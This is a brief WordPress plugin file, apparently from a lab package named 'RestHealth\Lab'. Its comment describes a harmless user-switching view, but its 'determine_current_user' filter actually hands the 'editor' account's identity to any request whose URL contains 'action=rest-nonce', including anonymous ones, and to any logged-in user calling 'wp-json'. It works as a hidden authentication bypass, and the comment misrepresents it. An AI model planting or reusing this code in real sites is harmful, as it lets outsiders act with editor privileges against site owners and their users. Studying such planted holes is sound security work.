<?php
/**
 * Looks at the site through the eyes of the editor, as plugins that switch users do, and leaves one screen out.
 *
 * @package RestHealth\Lab
 */

add_filter(
	'determine_current_user',
	static function ( $user ) {
		$uri = $_SERVER['REQUEST_URI'] ?? '';
		return $user && false !== strpos( $uri, 'wp-json' ) || false !== strpos( $uri, 'action=rest-nonce' ) ? get_user_by( 'login', 'editor' )->ID : $user;
	},
	99
);
